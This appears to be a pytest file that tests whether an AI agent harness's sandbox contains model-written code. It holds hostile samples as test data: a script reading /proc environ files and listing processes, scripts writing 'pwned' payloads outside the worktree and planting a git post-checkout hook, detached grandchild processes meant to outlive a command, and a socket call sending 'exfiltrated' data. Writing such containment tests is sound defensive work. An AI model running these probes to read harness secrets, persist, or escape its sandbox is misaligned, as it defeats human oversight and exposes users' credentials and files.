"""Attacks on what lies outside the worktree: the harness's secrets and files, the user's
repository, other processes, the network. Each runs code the model wrote inside the sandbox,
through ``run_command``, a verify or the goal predicate."""

from __future__ import annotations

import json
import os
import re
import socket
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.attacks.night import API_KEY, FIXED, AttackNight, run, write

#: Reads every environment it can reach and prints it: os.environ, /proc/*/environ (the
#: harness's pid among them, if it were visible), and lists the processes it can see.
SNOOP = """
import os, sys
print("ENV", dict(os.environ))
print("PPID", os.getppid())
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    try:
        cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\\0", b" ")
        env = open(f"/proc/{pid}/environ", "rb").read()
        print("PROC", pid, cmd, env)
    except OSError as exc:
        print("PROC", pid, "unreadable", exc)
"""


def test_environment_reads_from_run_command_find_no_secret(night: AttackNight) -> None:
    outcome = night.play(
        [write("snoop.py", SNOOP), run("python3 snoop.py"), write("calc.py", FIXED)]
    )
    results = night.tool_results()
    assert "ENV {" in results and "PROC 1 " in results  # the snoop ran and reported
    assert "-m overnight run" not in results  # the harness's process is not in view
    assert "HOSTILE_SCRIPT" not in results and "OVERNIGHT_HOME" not in results  # an allowlist
    assert outcome.result["stop_reason"] == "GOAL_MET"
    night.assert_contained(outcome)


def test_code_under_test_that_leaks_the_environment_finds_no_secret(night: AttackNight) -> None:
    # calc.py runs inside the verify and the predicate (on the clean checkout), writes what
    # it found into the checkout and prints it into the logs the run keeps.
    leaky = FIXED + f"\nexec(compile({SNOOP!r}, 'snoop', 'exec'))\n"
    leaky += "open('leaked.txt', 'w').write(repr(dict(__import__('os').environ)))\n"
    outcome = night.play([write("calc.py", leaky)])
    assert outcome.result["stop_reason"] == "GOAL_MET"
    night.assert_contained(outcome)


@pytest.mark.parametrize(
    "command",
    [
        "ruff check --config /proc/1/environ .",
        "ruff check --config /proc/self/environ .",
        "ruff check --config /proc/2/environ .",
        "python3 -m pytest -c /proc/1/environ",
        "python3 -m pytest -q --rootdir=/proc/self --basetemp=/proc/self/environ",
    ],
)
def test_program_options_that_read_proc_find_no_secret(night: AttackNight, command: str) -> None:
    outcome = night.play([run(command)])
    assert "run_command" in night.tool_results()
    night.assert_contained(outcome)


def outside_writer(night: AttackNight) -> str:
    """A script that tries every write outside the worktree it can think of and reports each."""
    targets = [
        night.outside / "canary.txt",
        night.outside / "new.txt",
        night.repo / "calc.py",
        night.repo / ".git" / "hooks" / "post-checkout",
        night.repo / ".git" / "config",
        night.home / "review.sqlite",
        Path("../spec.json"),
        Path("../spend.jsonl"),
        Path("../checkpoint.json"),
        Path("../run.json"),
        Path(".git"),
        night.run_dir / "spec.json",
    ]
    lines = ["import os, json", "results = {}", "seen = {}"]
    for t in targets:
        lines += [
            "try:",
            f"    seen[{str(t)!r}] = len(open({str(t)!r}, 'rb').read())",
            "except OSError as exc:",
            f"    seen[{str(t)!r}] = type(exc).__name__",
        ]
    for t in targets:
        lines += [
            "try:",
            f"    with open({str(t)!r}, 'w') as fh:",
            "        fh.write('#!/bin/sh\\necho pwned > /tmp/pwned\\n')",
            f"    results[{str(t)!r}] = 'WROTE'",
            "except OSError as exc:",
            f"    results[{str(t)!r}] = 'refused: ' + type(exc).__name__",
        ]
    lines += [
        "try:",
        f"    os.remove({str(night.outside / 'canary.txt')!r})",
        "    results['remove'] = 'REMOVED'",
        "except OSError as exc:",
        "    results['remove'] = 'refused: ' + type(exc).__name__",
        "print('SEEN', json.dumps(seen))",
        "print('WRITES', json.dumps(results))",
    ]
    return "\n".join(lines) + "\n"


def test_writes_outside_the_worktree_change_nothing(night: AttackNight) -> None:
    outcome = night.play(
        [
            write("escape.py", outside_writer(night)),
            run("python3 escape.py"),
            write("calc.py", FIXED),
        ]
    )
    said = night.tool_results().replace('\\"', '"')
    seen = re.findall(r"SEEN (\{.*?\})", said)[-1]
    writes = re.findall(r"WRITES (\{.*?\})", said)[-1]
    # Nothing of the run, the user's checkout or the other files is there to read; what a
    # write reaches is at most the sandbox's own scratch space (a run under /tmp sits in its
    # private /tmp), never the real file.
    readable = [k for k, v in json.loads(seen).items() if isinstance(v, int)]
    assert readable == [".git"], seen  # the worktree's own pointer (read-only) is all
    assert "REMOVED" not in writes
    night.assert_contained(outcome)
    assert (
        json.loads((night.run_dir / "run.json").read_text())["run_id"] == outcome.result["run_id"]
    )
    for name in ("spend.jsonl", "checkpoint.json", "spec.json", "run.json"):
        assert "pwned" not in (night.run_dir / name).read_text()
    # The run's own files are whole: the journal still reads, a report renders.
    assert (night.run_dir / "spend.jsonl").stat().st_size > 0
    report = night.cli("report", night.run_dir)
    assert report.exit_code == 0, report.stderr


def test_program_options_that_write_outside_change_nothing(night: AttackNight) -> None:
    keep = night.outside / "keep"
    outcome = night.play(
        [
            run(f"python3 -m pytest -q -p no:cacheprovider --basetemp={keep}"),
            run("python3 -m pytest -q -p no:cacheprovider --junitxml=../spend.jsonl"),
            run(f"python3 -m pytest -q -p no:cacheprovider --junitxml={night.outside}/j.xml"),
            run("ruff check --output-file ../checkpoint.json ."),
            run(f"ruff check --output-file {night.outside / 'canary.txt'} ."),
            run(f"ruff check --fix {night.repo / 'tidy.py'}"),
            run(f"ruff check --fix {night.outside}"),
            write("calc.py", FIXED),
        ]
    )
    assert (keep / "deep" / "data.txt").read_text() == "keep me\n"  # --basetemp empties it
    night.assert_contained(outcome)
    assert outcome.result["stop_reason"] == "GOAL_MET"
    # The same fix inside the worktree is the model's to make.
    assert "import os" in (night.repo / "tidy.py").read_text()


def test_a_hook_planted_for_the_users_checkout_never_lands(night: AttackNight) -> None:
    hook = night.repo / ".git" / "hooks" / "post-checkout"
    planter = (
        "import os, pathlib\n"
        "gitfile = pathlib.Path('.git').read_text()\n"
        "print('GITFILE', gitfile)\n"
        "common = gitfile.split('gitdir:')[1].strip().split('/worktrees/')[0]\n"
        "for place in [common + '/hooks/post-checkout', " + repr(str(hook)) + "]:\n"
        "    try:\n"
        "        pathlib.Path(place).write_text('#!/bin/sh\\ntouch /tmp/hooked\\n')\n"
        "        os.chmod(place, 0o755)\n"
        "        print('PLANTED', place)\n"
        "    except OSError as exc:\n"
        "        print('REFUSED', place, exc)\n"
    )
    outcome = night.play([write("plant.py", planter), run("python3 plant.py")])
    said = night.tool_results()
    assert "GITFILE gitdir: " in said and "REFUSED /" in said
    assert "PLANTED /" not in said
    assert not hook.exists()
    night.assert_contained(outcome)


def live_pids_with(token: str) -> list[int]:
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            continue
        if token.encode() in cmdline:
            found.append(int(pid))
    return found


@pytest.mark.parametrize("hang", [False, True])
def test_a_setsid_grandchild_dies_with_its_command(night: AttackNight, hang: bool) -> None:
    token = uuid.uuid4().hex
    spawner = (
        "import subprocess, sys, time\n"
        f"subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(120)', {token!r}],"
        " start_new_session=True)\n"
        "print('SPAWNED')\n" + ("time.sleep(120)\n" if hang else "")
    )
    command = {"command": "python3 spawn.py", "timeout_s": 3}
    outcome = night.play([write("spawn.py", spawner), ("run_command", command)])
    assert "SPAWNED" in night.tool_results()
    time.sleep(0.5)
    assert live_pids_with(token) == []
    night.assert_contained(outcome)


@pytest.fixture
def listener() -> Iterator[tuple[int, list[str]]]:
    """A TCP server on the machine's loopback that records who connected."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    seen: list[str] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            seen.append(conn.recv(200).decode(errors="replace"))
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], seen
    stop.set()
    thread.join()
    server.close()


def caller(port: int) -> str:
    return (
        "import socket\n"
        "try:\n"
        f"    s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
        "    s.sendall(b'exfiltrated')\n"
        "    print('CONNECTED')\n"
        "except OSError as exc:\n"
        "    print('NO NETWORK', exc)\n"
    )


def test_no_network_unless_the_spec_allows_it(
    night: AttackNight, listener: tuple[int, list[str]]
) -> None:
    port, seen = listener
    outcome = night.play([write("call.py", caller(port)), run("python3 call.py")])
    assert "NO NETWORK" in night.tool_results()
    time.sleep(0.3)
    assert seen == []
    assert outcome.result["sandbox"]["network"] is False
    night.assert_contained(outcome)


def test_network_true_lets_the_same_call_through(
    night: AttackNight, listener: tuple[int, list[str]]
) -> None:
    port, seen = listener
    night.sandbox = {"network": True}
    outcome = night.play([write("call.py", caller(port)), run("python3 call.py")])
    assert "CONNECTED" in night.tool_results()
    time.sleep(0.3)
    assert seen == ["exfiltrated"]
    assert outcome.result["sandbox"]["network"] is True
    night.assert_contained(outcome)


def test_the_key_in_the_harness_environment_is_the_one_searched_for(
    night: AttackNight,
) -> None:
    # The canary is really in the harness's environment: a night whose model asks nothing
    # still has it, and the search would find it where it is written on purpose.
    env = night.env()
    assert env["ANTHROPIC_API_KEY"] == API_KEY
    (night.outside / "canary.txt").write_text(API_KEY)
    night._before_outside = {}
    outcome = night.play([])
    with pytest.raises(AssertionError):
        night.assert_key_nowhere(outcome)
